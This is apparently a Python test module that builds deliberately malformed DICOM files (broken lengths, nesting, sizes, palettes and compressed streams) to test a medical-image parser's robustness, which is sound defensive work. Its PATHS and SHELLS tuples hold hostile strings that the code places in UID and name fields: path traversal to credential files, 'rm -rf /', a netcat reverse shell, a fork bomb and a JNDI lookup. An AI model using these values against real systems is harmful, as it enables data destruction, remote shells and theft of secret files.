"""Hostile DICOM files of structure: lengths, VRs, nesting, sizes, palettes, compressed streams, paths, shells."""

from __future__ import annotations

import random
import struct

from isocenter.testing.crooked import (
    EXPLICIT,
    IMPLICIT,
    Elements,
    element,
    fragments,
    head,
    image,
    item,
    plain,
    uid,
    written,
)
from isocenter.testing.hostile_member import Member

__all__ = ["directory", "misspelt", "nested", "palettes", "paths", "shells", "sizes", "streams", "truncated"]

_UNDEFINED = 0xFFFFFFFF
_RLE, _JPEG, _JPEG_LS, _J2K, _HTJ2K = (
    "1.2.840.10008.1.2.5",
    "1.2.840.10008.1.2.4.50",
    "1.2.840.10008.1.2.4.80",
    "1.2.840.10008.1.2.4.90",
    "1.2.840.10008.1.2.4.201",
)
PATHS = (
    "../../../etc/passwd", "..\\..\\windows\\system32\\config", "/etc/shadow", "C:\\boot.ini", "....//....//x",
    "a/../../b", "%2e%2e%2fx", "file:///etc/passwd", "\\\\server\\share", "CON", "NUL", "aux.dcm", "~/.ssh/id_rsa",
    "x\0.dcm", ".", "..", "1.2.3/4", "1.2.3\n4", "$HOME", "1.2.3;rm",
)  # fmt: skip
SHELLS = (
    "; rm -rf /", "$(touch owned)", "`touch owned`", "| nc -e /bin/sh 10.0.0.1 1", "&& reboot", "\n/bin/sh", "$IFS$9",
    "'; shutdown -h now #", '"; :(){ :|:& };:', "%n%s%x", "{{7*7}}", "${jndi:ldap://x/a}", "<%= 7 %>", "|| true",
    "> /etc/passwd", "< /dev/zero", "* ? [a-z]", "!reboot", "\\x00\\x41", "-oProxyCommand=x",
)  # fmt: skip


def truncated(rng: random.Random, n: int) -> Member:
    """H01: cut short, or an element that claims more than is there."""
    made = image(rng)
    whole = written(made, syntax=IMPLICIT if n % 3 == 2 else EXPLICIT)
    if n % 5 < 3:
        at = rng.choice((rng.randrange(1, 132), rng.randrange(132, 400), rng.randrange(400, len(whole) - 1)))
        return Member("H01", f"cut after {at} of {len(whole)} bytes", "object", whole[:at], True)
    if n % 5 == 3:
        tag = rng.choice([0x00081030, 0x00100020, 0x00280030, 0x7FE00010])
        more = rng.choice([1, 2, 1000]) * (len(whole) if tag != 0x7FE00010 else 2)
        data = written(made, lies={tag: min(len(made[tag][1]) + more, 0xFFFE if tag != 0x7FE00010 else 0x7FFFFFFF)})
        return Member("H01", f"({tag:08X}) is longer than the file", "object", data, True)
    made[0x00204000] = ("UT", plain("words"))
    data = written(made, lies={0x00204000: _UNDEFINED})
    return Member("H01", "a text of undefined length", "object", data, True)


def misspelt(rng: random.Random, n: int) -> Member:
    """H02: VRs, odd lengths, file meta."""
    made = image(rng)
    whole = written(made)
    start = len(head(made, EXPLICIT))
    tag = rng.choice([0x00081030, 0x00100010, 0x00180050])
    lies: list[tuple[str, bytes, bool]] = [
        ("a value of odd length", written({**made, tag: (made[tag][0], b"abc")}), False),
        ("a length of odd number that eats its neighbour", written(made, lies={tag: 3}), True),
        ("the unknown VR ZZ", written({**made, tag: ("ZZ", made[tag][1])}), True),
        ("a VR of control characters", written({**made, tag: ("\x01\x02", made[tag][1])}), True),
        ("a name as a number", written({**made, 0x00100010: ("US", b"\1\0")}), False),
        ("a number as text", written({**made, 0x00280010: ("LO", plain("eight"))}), True),
        ("file meta with the VR ??", whole.replace(b"\x02\x00\x12\x00UI", b"\x02\x00\x12\x00ZQ"), True),
        ("no preamble and no mark", whole[132:], False),  # in a folder it is given both
        ("no file meta at all", b"\0" * 128 + b"DICM" + whole[start:], True),
        ("implicit data under an explicit syntax", head(made, EXPLICIT) + _body(made, implicit=True), False),
        ("explicit data under an implicit syntax", head(made, IMPLICIT) + _body(made, implicit=False), False),
        (
            "an unknown transfer syntax",
            written(made).replace(b"1.2.840.10008.1.2.1\0", b"1.2.840.10008.9.9.9\0"),
            False,
        ),
        ("a transfer syntax that is no UID", _syntax(made, "../../x"), True),
        ("an empty transfer syntax", _syntax(made, ""), True),
        ("a group length of file meta that lies", _group_length(whole, rng.choice([0, 7, 10**6])), True),
        ("elements out of order", whole[:start] + _body(made, backwards=True), False),
        ("an element twice", whole[:start] + _body(made, twice=True), False),
        ("big-endian data under a little-endian syntax", whole[:start] + _swapped(whole[start:]), True),
    ]
    name, data, refused = lies[n % len(lies)]
    meta = "file meta" in name or "transfer syntax" in name or "no preamble" in name
    return Member("H02", name, "object", data, refused, more={"meta": True} if meta else {})


def nested(rng: random.Random, n: int) -> Member:
    """H03: sequences."""
    made = image(rng)
    depths = (65, 66, 80, 128, 500, 1000, 4000, 20_000, 100_000)
    if n % 2 == 0:
        depth = depths[n // 2 % len(depths)]
        opened = (b"\x40\x00\x55\x05SQ\0\0\xff\xff\xff\xff" + b"\xfe\xff\x00\xe0\xff\xff\xff\xff") * depth
        closed = (b"\xfe\xff\x0d\xe0\0\0\0\0" + b"\xfe\xff\xdd\xe0\0\0\0\0") * (depth if n % 4 else 0)
        name = f"{depth} sequences in each other{'' if n % 4 else ', none closed'}"
        return Member("H03", name, "object", _with_sequence(made, opened + closed), True)
    many = rng.choice([1000, 20_000])
    inside: list[tuple[str, bytes, bool]] = [
        ("an item that is never closed", item(b"", length=_UNDEFINED, closed=False), True),
        (f"{many} empty items", item(b"") * many, False),
        ("an item longer than its sequence", item(b"", length=10**6), True),
        ("a delimiter where an item should be", b"\xfe\xff\x0d\xe0\0\0\0\0", True),
        ("a delimiter with a length", b"\xfe\xff\xdd\xe0\4\0\0\0" + b"\0" * 4, True),
    ]
    name, content, refused = inside[n // 2 % len(inside)]
    sequence = element(0x00400555, "SQ", content, length=_UNDEFINED if n % 4 == 1 else None)
    if n % 4 == 1 and not refused:
        sequence += b"\xfe\xff\xdd\xe0\0\0\0\0"
    return Member("H03", name, "object", _with_sequence(made, sequence), refused)


def sizes(rng: random.Random, n: int) -> Member:
    """H06: what makes no image, or one larger than memory."""
    made = image(rng)
    frames = 0x00280008
    lies: list[tuple[str, dict[int, tuple[str, bytes]], bool]] = [
        ("65535 rows and columns", {0x00280010: _us(65535), 0x00280011: _us(65535)}, True),
        ("2^31 frames", {frames: ("IS", plain("2147483648"))}, True),
        ("10^11 frames", {frames: ("IS", plain("99999999999 "))}, True),
        ("frames that overflow 64 bits with the rows", {frames: ("IS", plain("144115188075855872"))}, True),
        ("minus one frame", {frames: ("IS", plain("-1"))}, False),
        ("no frame", {frames: ("IS", plain("0"))}, False),
        ("infinitely many frames", {frames: ("IS", plain("1e400"))}, False),
        ("frames that are no number", {frames: ("IS", plain("NaN"))}, False),
        ("no rows", {0x00280010: _us(0)}, True),
        ("rows as UL", {0x00280010: ("UL", struct.pack("<I", 8))}, False),
        ("rows as a negative SS", {0x00280010: ("SS", struct.pack("<h", -8))}, True),
        ("rows without a value", {0x00280010: ("US", b"")}, True),
        ("7 bits", {0x00280100: _us(7)}, True),
        ("64 bits", {0x00280100: _us(64)}, True),
        ("more bits stored than there are", {0x00280101: _us(99), 0x00280102: _us(98)}, False),
        ("5 samples", {0x00280002: _us(5)}, True),
        ("colour without its planes", {0x00280002: _us(3), 0x00280004: ("CS", plain("RGB"))}, True),
        ("planar configuration 7", {0x00280006: _us(7)}, False),
        ("an unknown photometric interpretation", {0x00280004: ("CS", plain("ULTRAVIOLET"))}, False),
        ("a hundred frames of nothing", {frames: ("IS", plain("100")), 0x7FE00010: ("OW", b"")}, True),
    ]
    name, changes, refused = lies[n % len(lies)]
    return Member("H06", name, "object", written({**made, **changes}), refused)


def palettes(rng: random.Random, n: int) -> Member:
    """H07: palettes; they are kept, for the pixels are whole, and must not harm whoever shows them."""
    made = image(rng)
    made |= {0x00280004: ("CS", plain("PALETTE COLOR")), 0x00280100: _us(8), 0x00280101: _us(8), 0x00280102: _us(7)}
    made[0x7FE00010] = ("OB", rng.randbytes(64))
    entries = (0, 1, 2, 255, 256, 257, 65535)[n % 7]
    first = (0, -32768, 32767, 200)[n % 4]
    bits = (0, 1, 7, 8, 12, 16, 64)[n % 5]
    there = (0, 2, 16, 512, 1)[n % 5]
    for colour in (1, 2, 3):
        made[0x00281100 | colour] = ("US", struct.pack("<HhH", entries, first, bits))
        made[0x00281200 | colour] = ("OW", rng.randbytes(there if colour != 2 or n % 3 else 0))
    name = f"{entries} entries from {first} of {bits} bits in {there} bytes"
    if n % 6 == 5:
        del made[0x00281203]
        name += ", no blue"
    return Member("H07", name, "object", written(made))


def streams(rng: random.Random, n: int) -> Member:
    """H08: compressed pixels."""
    made = image(rng, rows=16, columns=16)
    del made[0x7FE00010]
    syntax, name, tail = _STREAMS[n % len(_STREAMS)](rng, n)
    if syntax == _JPEG:
        made |= {0x00280100: _us(8), 0x00280101: _us(8), 0x00280102: _us(7)}
    return Member("H08", name, "object", written(made, syntax=syntax, tail=tail))


def paths(rng: random.Random, n: int) -> Member:
    """H10: paths wherever a name could become one."""
    text = PATHS[n % len(PATHS)]
    where = n % 4
    made = image(rng)
    if where == 0:
        made[0x00080018] = ("UI", plain(text, pad=b"\0"))
        return Member("H10", f"SOP Instance UID {text!r}", "object", written(made), True)
    if where == 1:
        made[rng.choice([0x0020000D, 0x0020000E])] = ("UI", plain(text, pad=b"\0"))
        return Member("H10", f"Study or Series Instance UID {text!r}", "object", written(made), True)
    if where == 2:
        made[0x00100020], made[0x00080050] = ("LO", plain(text)), ("SH", plain(text[:16]))
        return Member("H10", f"Patient ID and accession {text!r}", "object", written(made))
    return Member("H10", f"DICOMDIR names {text!r}", "folder", directory(rng, "HONEST", text), True, "DICOMDIR")


def shells(rng: random.Random, n: int) -> Member:
    """H11: what a shell would run."""
    text = SHELLS[n % len(SHELLS)]
    made = image(rng)
    if n % 3 == 0:
        made[0x00080018] = ("UI", plain("1.2" + text, pad=b"\0"))
        return Member("H11", f"SOP Instance UID {text!r}", "object", written(made), True)
    if n % 3 == 1:
        source = element(0x00020016, "AE", plain(text[:16]))
        return Member("H11", f"source AE title {text!r}", "object", written(made, meta=source))
    for tag in (0x00100010, 0x00100020, 0x00081030, 0x00080080, 0x00081010):
        made[tag] = ("LO", plain(text))
    return Member("H11", f"names, station and institution {text!r}", "object", written(made))


def _us(number: int) -> tuple[str, bytes]:
    return "US", struct.pack("<H", number)


def _body(made: Elements, *, implicit: bool = False, backwards: bool = False, twice: bool = False) -> bytes:
    order = sorted(made, reverse=backwards)
    parts = [element(tag, *made[tag], implicit=implicit) for tag in order]
    return b"".join([parts[3], *parts] if twice else parts)


def _syntax(made: Elements, text: str) -> bytes:
    return head(made, text) + _body(made)


def _group_length(whole: bytes, length: int) -> bytes:
    return whole[:140] + struct.pack("<I", length) + whole[144:]


def _swapped(body: bytes) -> bytes:
    return b"".join(body[i + 1 : i + 2] + body[i : i + 1] for i in range(0, len(body) - 1, 2))


def _with_sequence(made: Elements, sequence: bytes) -> bytes:
    before = {tag: value for tag, value in made.items() if tag < 0x00400555}
    after = {tag: value for tag, value in made.items() if tag > 0x00400555}
    return head(made, EXPLICIT) + _body(before) + sequence + _body(after)


def directory(rng: random.Random, *names: str) -> bytes:
    """A DICOMDIR that names these files."""
    records = b""
    for name in names:
        inside = (
            element(0x00041400, "UL", b"\0\0\0\0") + element(0x00041410, "US", b"\xff\xff")
            + element(0x00041420, "UL", b"\0\0\0\0") + element(0x00041430, "CS", plain("IMAGE"))
            + element(0x00041500, "CS", plain(name.replace("/", "\\")))
        )  # fmt: skip
        records += item(inside)
    made: Elements = {
        0x00080016: ("UI", plain("1.2.840.10008.1.3.10", pad=b"\0")),
        0x00080018: ("UI", plain(uid(rng), pad=b"\0")),
        0x00041220: ("SQ", records),
    }
    del made[0x00080018]
    return written(made)


# ---- compressed streams: each gives (transfer syntax, name, pixels)


def _rle(rng: random.Random, n: int) -> tuple[str, str, bytes]:
    segments = rng.choice([0, 1, 2, 15, 16, 2**31])
    offsets = [rng.choice([0, 64, 10**9, 2**32 - 1]) for _ in range(15)]
    header = struct.pack("<16I", segments, *offsets)
    body = rng.randbytes(40) + b"\x80" * rng.randrange(1, 50) + b"\x7f"
    return _RLE, f"RLE of {segments} segments at {offsets[:2]}", fragments(header + body)


def _jpeg(rng: random.Random, n: int) -> tuple[str, str, bytes]:
    start = b"\xff\xd8"
    size = struct.pack(">HH", rng.choice([0, 16, 65535]), rng.choice([0, 16, 65535]))
    frame = b"\xff\xc0\x00\x0b\x08" + size + b"\x01\x01\x11\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
    tricks = (
        ("a loop of TEM markers", start + b"\xff\x01" * 5000),
        ("a frame of another size than the header", start + frame + scan + b"\0" * 30),
        ("a Huffman table without end", start + b"\xff\xc4\xff\xff\x00" + b"\xff" * 40),
        ("a scan before its frame", start + scan + rng.randbytes(60)),
        ("only its end", b"\xff\xd9"),
    )  # fmt: skip
    name, data = tricks[n // 5 % len(tricks)]
    return _JPEG, f"JPEG: {name}", fragments(data)


def _jpeg_ls(rng: random.Random, n: int) -> tuple[str, str, bytes]:
    rows, columns = rng.choice([(65535, 65535), (0, 0), (1, 65535), (16, 16)])
    frame = b"\xff\xf7\x00\x0b\x10" + struct.pack(">HH", rows, columns) + b"\x01\x01\x11\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x00\x00" + rng.randbytes(200) + b"\xff\xd9"
    return _JPEG_LS, f"JPEG-LS of {rows} by {columns}", fragments(b"\xff\xd8" + frame + scan)


def _j2k(rng: random.Random, n: int) -> tuple[str, str, bytes]:
    wide, tile = rng.choice([(2**32 - 1, 1), (16, 0), (0, 16), (2**31, 2**31), (16, 2**32 - 1)])
    siz = struct.pack(">HIIIIIIIIH", 0, wide, wide, 0, 0, tile, tile, 0, 0, 1) + b"\x0f\x01\x01"
    cod = b"\xff\x52\x00\x0c\x00\x00\x00\x01\x00\x20\x04\x04\x00\x01"
    data = b"\xff\x4f\xff\x51" + struct.pack(">H", len(siz) + 2) + siz + cod + b"\xff\x90" + rng.randbytes(120)
    syntax = _HTJ2K if n % 2 else _J2K
    return syntax, f"JPEG 2000 of {wide} in tiles of {tile}", fragments(data)


def _boxed(rng: random.Random, n: int) -> tuple[str, str, bytes]:
    tricks = (
        ("an offset table behind the end", fragments(rng.randbytes(64), offsets=struct.pack("<II", 0, 10**9))),
        ("offsets that go backwards", fragments(b"\0" * 8, b"\1" * 8, offsets=struct.pack("<II", 16, 0))),
        ("pixels that are never closed", fragments(rng.randbytes(64), closed=False)),
        ("a thousand empty fragments", fragments(*[b""] * 1000)),
    )
    name, tail = tricks[n // 5 % len(tricks)]
    return _RLE, f"fragments: {name}", tail


_STREAMS = (_rle, _jpeg, _jpeg_ls, _j2k, _boxed)
